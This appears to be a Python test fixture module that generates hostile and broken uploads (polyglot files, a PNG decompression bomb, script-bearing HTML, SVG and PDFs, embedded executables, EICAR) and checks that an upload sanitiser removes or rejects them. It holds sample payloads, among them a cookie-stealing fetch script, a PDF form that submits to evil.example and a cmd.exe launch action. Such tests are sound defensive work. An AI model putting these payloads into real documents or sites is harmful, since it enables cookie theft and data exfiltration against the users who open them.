"""A corpus of hostile and broken uploads, made by the tests (no binary fixtures in git).

Each entry says what the pipeline must do with it: refuse it with a code, or take it and
hand back a "sanitised" PDF. The corpus is meant to be run with small limits (SMALL_LIMITS)
so the oversize and too-many-pages cases stay small and fast.
"""

from __future__ import annotations

import functools
import io
import zipfile
import zlib
from dataclasses import dataclass

import pikepdf

from tests.documents import photos
from tests.documents.clamd_server import EICAR

SANITISED = "sanitised"
MEGABYTE = 1024 * 1024
SMALL_MAX_FILE_BYTES = MEGABYTE
SMALL_MAX_PDF_PAGES = 2
SMALL_LIMITS = {
    "DOCUMENT_MAX_FILE_BYTES": SMALL_MAX_FILE_BYTES,
    "DOCUMENT_MAX_PDF_PAGES": SMALL_MAX_PDF_PAGES,
}


@dataclass(frozen=True)
class Hostile:
    id: str
    name: str  # the name the browser sends: often a lie
    data: bytes
    expected: str  # a DocumentRejected code, or SANITISED
    # What happens when nothing scans for viruses (VIRUS_SCANNER = "off"), if different.
    unscanned: str | None = None

    @property
    def expected_unscanned(self) -> str:
        return self.unscanned or self.expected


# --- Bits to build with ---------------------------------------------------------------------

HTML_WITH_SCRIPT = b"<!doctype html><html><body><script>fetch('/steal?c='+document.cookie)"
HTML_WITH_SCRIPT += b"</script></body></html>"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>"
)
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(48) + b"PE\x00\x00"


def zip_of(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def gifar() -> bytes:
    """A GIF that is also a Java archive (the classic GIFAR polyglot)."""
    gif = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00"
    gif += b"\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    return gif + zip_of({"Exploit.class": b"\xca\xfe\xba\xbe" + bytes(32)})


def fake_jpeg_with_html() -> bytes:
    """JPEG magic bytes, then a web page: passes a naive type check, is no picture."""
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + HTML_WITH_SCRIPT


def jpeg_with_zip_appended() -> bytes:
    """A real photo with a ZIP (holding a web page) glued to the end."""
    return photos.jpeg(600, 400) + zip_of({"index.html": HTML_WITH_SCRIPT})


def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """A valid 1-bit PNG of width×height black pixels: tiny on disk, gigabytes when decoded."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body)
        return len(body).to_bytes(4, "big") + kind + body + crc.to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([1, 0, 0, 0, 0])
    row = bytes(1 + (width + 7) // 8)  # filter byte 0, then all-zero pixels
    compressor = zlib.compressobj(9)
    compressed = b"".join(compressor.compress(row) for _ in range(height))
    compressed += compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", compressed)
        + chunk(b"IEND", b"")
    )


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


# --- PDFs -----------------------------------------------------------------------------------


def _page(pdf: pikepdf.Pdf, text: str) -> pikepdf.Page:
    font = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont="/Helvetica"
        )
    )
    content = f"BT /F1 24 Tf 72 720 Td ({text}) Tj ET".encode()
    page = pikepdf.Page(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Page,
            MediaBox=[0, 0, 595, 842],
            Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font)),
            Contents=pdf.make_stream(content),
        )
    )
    pdf.pages.append(page)
    return pdf.pages[-1]


def _save(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def plain_pdf(pages: int = 1) -> bytes:
    with pikepdf.new() as pdf:
        for number in range(1, pages + 1):
            _page(pdf, f"Payslip page {number}")
        return _save(pdf)


def _js(script: str) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=script)


def _link(rect: list[int], action: pikepdf.Dictionary) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=rect, Border=[0, 0, 0], A=action
    )


SAFE_URI = "https://www.nav.no/"


def pdf_with_javascript() -> bytes:
    """Every common place a PDF can hide a script or an automatic action, and one safe link."""
    with pikepdf.new() as pdf:
        page = _page(pdf, "Open me")
        script_stream = pdf.make_stream(b"app.alert('from a stream');")
        pdf.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=["init", pdf.make_indirect(_js("app.alert(1)"))])
        )
        pdf.Root.OpenAction = _js("this.exportDataObject({cName: 'x', nLaunch: 2})")
        pdf.Root.AA = pikepdf.Dictionary(WC=_js("app.alert('closing')"))
        page.obj.AA = pikepdf.Dictionary(
            O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=script_stream)
        )
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe", Win={"/F": "cmd.exe"})
        uri_then_js = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=SAFE_URI, Next=_js("app.alert(2)"))
        submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/collect")
        field = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Widget,
                FT=pikepdf.Name.Btn,
                T="send",
                Rect=[72, 500, 200, 530],
                A=submit,
                AA=pikepdf.Dictionary(K=_js("event.rc = true")),
            )
        )
        page.obj.Annots = pdf.make_indirect(
            pikepdf.Array(
                [
                    _link([72, 700, 300, 730], _js("app.launchURL('https://evil.example')")),
                    _link([72, 650, 300, 680], launch),
                    _link(
                        [72, 600, 300, 630], pikepdf.Dictionary(S=pikepdf.Name.URI, URI=SAFE_URI)
                    ),
                    _link([72, 550, 300, 580], uri_then_js),
                    _link(
                        [72, 450, 300, 480],
                        pikepdf.Dictionary(S=pikepdf.Name.URI, URI="javascript:alert(3)"),
                    ),
                    field,
                ]
            )
        )
        pdf.Root.AcroForm = pikepdf.Dictionary(
            Fields=[field], XFA=pdf.make_stream(b"<xdp:xdp><script>app.alert(4)</script></xdp:xdp>")
        )
        outline = pdf.make_indirect(pikepdf.Dictionary(Title="Start", A=_js("app.alert(5)")))
        pdf.Root.Outlines = pikepdf.Dictionary(
            Type=pikepdf.Name.Outlines, First=outline, Last=outline, Count=1
        )
        outline.Parent = pdf.Root.Outlines
        return _save(pdf)


def pdf_with_embedded_file() -> bytes:
    """A PDF carrying a program twice: in the document's file list and as a page attachment."""
    with pikepdf.new() as pdf:
        page = _page(pdf, "See attachment")

        def filespec(name: str) -> pikepdf.Dictionary:
            stream = pdf.make_stream(WINDOWS_PROGRAM)
            stream.Type = pikepdf.Name.EmbeddedFile
            return pikepdf.Dictionary(
                Type=pikepdf.Name.Filespec, F=name, UF=name, EF={"/F": stream}
            )

        pdf.Root.Names = pikepdf.Dictionary(
            EmbeddedFiles=pikepdf.Dictionary(Names=["invoice.exe", filespec("invoice.exe")])
        )
        page.obj.Annots = pikepdf.Array(
            [
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.FileAttachment,
                    Rect=[72, 600, 92, 620],
                    FS=filespec("readme.exe"),
                )
            ]
        )
        return _save(pdf)


def encrypted_pdf(*, user_password: str) -> bytes:
    with pikepdf.new() as pdf:
        _page(pdf, "Bank statement")
        encryption = pikepdf.Encryption(owner="bank-owner", user=user_password, R=6)
        return _save(pdf, encryption=encryption)


def pdf_with_zip_appended() -> bytes:
    """A valid PDF that is also a ZIP archive (readers ignore what follows %%EOF)."""
    return plain_pdf() + zip_of({"payload.html": HTML_WITH_SCRIPT})


# --- The corpus -----------------------------------------------------------------------------


@functools.cache
def corpus() -> tuple[Hostile, ...]:
    jpeg = photos.jpeg(600, 400)
    return (
        Hostile("zero-bytes", "photo.jpg", b"", "empty"),
        Hostile(
            "oversize",
            "scan.jpg",
            b"\xff\xd8\xff\xe0" + bytes(SMALL_MAX_FILE_BYTES + 100_000),
            "too_big",
        ),
        Hostile("exe-as-jpeg", "photo.jpg", WINDOWS_PROGRAM + bytes(200), "unsupported"),
        Hostile("zip-as-jpeg", "photo.jpg", zip_of({"a.txt": b"hello"}), "unsupported"),
        Hostile("text-as-pdf", "payslip.pdf", b"Just some text, not a PDF.\n" * 4, "unsupported"),
        Hostile("html-with-script", "photo.png", HTML_WITH_SCRIPT, "unsupported"),
        Hostile("html-named-html", "statement.html", HTML_WITH_SCRIPT, "unsupported"),
        Hostile("svg-with-script", "drawing.svg", SVG_WITH_SCRIPT, "unsupported"),
        Hostile("svg-as-png", "photo.png", SVG_WITH_SCRIPT, "unsupported"),
        Hostile("gifar-as-jpeg", "photo.jpg", gifar(), "unsupported"),
        Hostile("jpeg-magic-then-html", "photo.jpg", fake_jpeg_with_html(), "damaged"),
        Hostile("pdf-magic-then-html", "payslip.pdf", b"%PDF-1.7\n" + HTML_WITH_SCRIPT, "damaged"),
        Hostile("jpeg-with-zip-appended", "photo.jpg", jpeg_with_zip_appended(), SANITISED),
        Hostile("pdf-with-zip-appended", "payslip.pdf", pdf_with_zip_appended(), SANITISED),
        Hostile("truncated-jpeg", "photo.jpg", truncated(jpeg), "damaged"),
        Hostile("truncated-png", "photo.png", truncated(photos.png_with_transparency()), "damaged"),
        Hostile("truncated-heic", "photo.heic", truncated(photos.heic(600, 400)), "damaged"),
        Hostile("png-bomb", "photo.png", png_bomb(), "too_large_image"),
        Hostile(
            "encrypted-pdf", "statement.pdf", encrypted_pdf(user_password="secret"), "encrypted"
        ),
        Hostile("owner-password-pdf", "statement.pdf", encrypted_pdf(user_password=""), SANITISED),
        Hostile(
            "too-many-pages", "statement.pdf", plain_pdf(SMALL_MAX_PDF_PAGES + 1), "too_many_pages"
        ),
        Hostile("pdf-with-javascript", "payslip.pdf", pdf_with_javascript(), SANITISED),
        Hostile("pdf-with-embedded-file", "payslip.pdf", pdf_with_embedded_file(), SANITISED),
        Hostile("eicar", "photo.jpg", EICAR, "virus", unscanned="unsupported"),
        Hostile("eicar-in-zip", "photos.jpg", zip_of({"eicar.com": EICAR}), "virus", "unsupported"),
        Hostile("eicar-after-jpeg", "photo.jpg", jpeg + EICAR, "virus", unscanned=SANITISED),
        Hostile("eicar-in-pdf", "payslip.pdf", pdf_with_zip_appended() + EICAR, "virus", SANITISED),
    )


# --- The oracle: what must not be left in a sanitised PDF -----------------------------------

FORBIDDEN_KEYS = frozenset(
    {"/JavaScript", "/JS", "/OpenAction", "/AA", "/EmbeddedFiles", "/EF", "/XFA"}
)
FORBIDDEN_ACTIONS = frozenset(
    {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToE", "/GoToR", "/Rendition"}
)


def active_content(data: bytes) -> list[str]:
    """Everything in the PDF that could run, launch, submit or carry a file (should be [])."""
    found: list[str] = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        for obj in pdf.objects:
            _find_active(obj, found)
        for page in pdf.pages:
            for annotation in page.obj.get("/Annots", pikepdf.Array()):
                if (
                    isinstance(annotation, pikepdf.Dictionary)
                    and annotation.get("/Subtype") == "/FileAttachment"
                ):
                    found.append("/FileAttachment annotation")
    return found


def _find_active(obj: pikepdf.Object, found: list[str]) -> None:
    if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
        found.extend(key for key in sorted(FORBIDDEN_KEYS) if key in obj)
        if obj.get("/S") in FORBIDDEN_ACTIONS:
            found.append(f"action {obj.get('/S')}")
        children = [value for _key, value in obj.items()]
    elif isinstance(obj, pikepdf.Array):
        children = list(obj)
    else:
        return
    for child in children:
        if isinstance(child, pikepdf.Dictionary | pikepdf.Array) and not child.is_indirect:
            _find_active(child, found)
